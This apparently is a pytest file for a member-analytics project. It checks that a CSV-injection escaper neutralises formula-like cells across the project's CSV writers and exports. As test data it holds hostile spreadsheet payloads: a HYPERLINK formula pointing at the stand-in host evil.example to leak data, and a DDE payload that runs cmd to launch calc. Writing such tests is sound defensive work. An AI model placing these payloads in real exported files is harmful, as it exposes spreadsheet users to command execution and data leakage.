"""CSV injection: the shared cell escaper, and every CSV writer of the project read back with the csv module."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from memberinsight.csvsafe import FORMULA_START, SafeWriter, escape_cell, escape_frame, write_frame

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","open")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "-2+3", "@SUM(1+1)", "\tTab", "\rCR"]


def _read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _defused(cell: str) -> bool:
    return not cell.startswith(FORMULA_START)


def test_escape_cell_quotes_formula_text_only() -> None:
    for text in HOSTILE:
        assert escape_cell(text) == "'" + text
    for value in ("plain", "", "a=b", " =x", 42, -2.5, None, True):
        assert escape_cell(value) == value  # plain text and real numbers are never changed
    assert escape_cell("-2.5") == "'-2.5"  # text that looks like a number is text


def test_phone_columns_keep_strict_international_numbers_only() -> None:
    for phone in ("+44 20 7946 0000", "+1 (555) 010-9999", "+353871234567"):
        assert escape_cell(phone, phone=True) == phone
        assert escape_cell(phone) == "'" + phone  # outside a phone column: escaped like any text
    for hostile in (DDE, "+1+1", "+44 20 7946 0000 x", "-1-1-1-1", "+" + "1" * 30, "@SUM(1)", "=1"):
        assert escape_cell(hostile, phone=True) == "'" + hostile


def test_safe_writer_escapes_header_and_rows(tmp_path: Path) -> None:
    path = tmp_path / "w.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = SafeWriter(fh, phone_columns={1})
        writer.writerow(["=name", "phone", "n"])
        writer.writerows([[HYPERLINK, "+44 20 7946 0000", -3], ["-2+3", DDE, 4.5]])
    assert _read(path) == [["'=name", "phone", "n"], ["'" + HYPERLINK, "+44 20 7946 0000", "-3"],
                           ["'-2+3", "'" + DDE, "4.5"]]


def test_frames_keep_numeric_columns_and_escape_every_text_cell(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "text": HOSTILE,
        "number": [-1.5, -2.0, 3.0, -4.25, 0.0, -6.0],
        "integer": [-1, 2, -3, 4, -5, 6],
        "category": pd.Categorical(["=a", "b", "=a", "b", "@c", "b"]),
        "string": pd.array(["-9", None, "x", "+1", "=1", "ok"], dtype="string"),
        "when": pd.to_datetime(["2024-01-01"] * 6),
        "phone": ["+44 20 7946 0000", DDE, None, "-1", "+1 555 0100", "0044"],
    })
    original = frame.copy()
    write_frame(frame, tmp_path / "f.csv", phone_columns=["phone"])
    pd.testing.assert_frame_equal(frame, original)  # the caller's frame is not modified
    rows = _read(tmp_path / "f.csv")
    assert rows[0] == list(frame.columns)
    got = pd.DataFrame(rows[1:], columns=rows[0])
    assert got["text"].tolist() == ["'" + t for t in HOSTILE]
    assert got["number"].astype(float).tolist() == frame["number"].tolist()  # negative numbers: unchanged
    assert got["integer"].tolist() == ["-1", "2", "-3", "4", "-5", "6"]
    assert got["category"].tolist() == ["'=a", "b", "'=a", "b", "'@c", "b"]
    assert got["string"].tolist() == ["'-9", "", "x", "'+1", "'=1", "ok"]
    assert got["phone"].tolist() == ["+44 20 7946 0000", "'" + DDE, "", "'-1", "+1 555 0100", "0044"]
    escaped = escape_frame(pd.DataFrame({"=h": ["x"]}, index=pd.Index(["@i"])))
    assert list(escaped.columns) == ["'=h"] and list(escaped.index) == ["'@i"]


def test_rejects_file_of_a_real_ingest_escapes_every_dangerous_cell(tmp_path: Path) -> None:
    from memberinsight.workspace import Workspace
    from memberinsight.workspace.ingest import ingest_file

    members = tmp_path / "members.csv"
    rows = [["member_id", "email", "first_name", "signup_date", "country", "channel"],
            ["M1", "a@example.com", "Ann", "2024-01-05", "Ireland", "organic"],
            ["M2", "-2+3", DDE, HYPERLINK, "@SUM(1+1)", "organic"],
            ["M3", "c@example.com", "\tTab", "not a date", "\rCR", "=1+1"]]
    with members.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    ws = Workspace.create(tmp_path / "ws")
    report = ingest_file(ws, members)
    assert (report.rows_loaded, report.rows_rejected) == (1, 2)
    written = _read(Path(report.rejects_file))
    header, body = written[0], written[1:]
    assert header[4:] == rows[0] and len(body) == 2
    for got, original in zip(body, rows[2:], strict=True):
        assert all(_defused(cell) for cell in got), got
        # the original values, recognisably: a leading ' on formula-like cells is the only change
        assert got[4:] == [("'" + v if v.startswith(FORMULA_START) else v) for v in original]


def test_features_out_escapes_text_cells_and_keeps_numbers(tmp_path: Path) -> None:
    from memberinsight.cli import app
    from memberinsight.workspace import Workspace

    ws = Workspace.create(tmp_path / "ws")
    with ws.analytics() as con:
        con.executemany("INSERT INTO members (member_id, email, country) VALUES (?, ?, ?)",
                        [(HYPERLINK, "a@x.org", "Ireland"), ("-2+3", "b@x.org", "@SUM(1+1)"), ("M3", "c@x.org", DDE)])
        con.execute("INSERT INTO products (product_id, title, category, price, is_product) "
                    "VALUES ('P1', 'Kneeler', 'Garden', 12.99, true)")
        con.executemany("INSERT INTO orders (order_id, line_no, member_id, product_id, quantity, unit_price, "
                        "ordered_at, is_return) VALUES (?, 1, ?, 'P1', ?, 12.99, ?, ?)",
                        [("O1", HYPERLINK, 2, "2024-01-10", False), ("O2", "-2+3", 1, "2024-03-10", False),
                         ("R1", "-2+3", -1, "2024-03-12", True), ("O3", "M3", 1, "2024-05-10", False)])
    out = tmp_path / "features.csv"
    res = CliRunner().invoke(app, ["features", "--out", str(out), "-w", str(ws.path)])
    assert res.exit_code == 0, res.output
    rows = _read(out)
    table = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert set(table) == {"'" + HYPERLINK, "'-2+3", "M3"}
    assert all(_defused(cell) or _is_number(cell) for r in rows[1:] for cell in r)
    assert table["'-2+3"]["country"] == "'@SUM(1+1)" and table["M3"]["country"] == "'" + DDE
    assert table["'" + HYPERLINK]["trend_orders"] == "-1"  # a real (negative) number: not escaped
    assert float(table["'" + HYPERLINK]["monetary"]) == pytest.approx(25.98)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
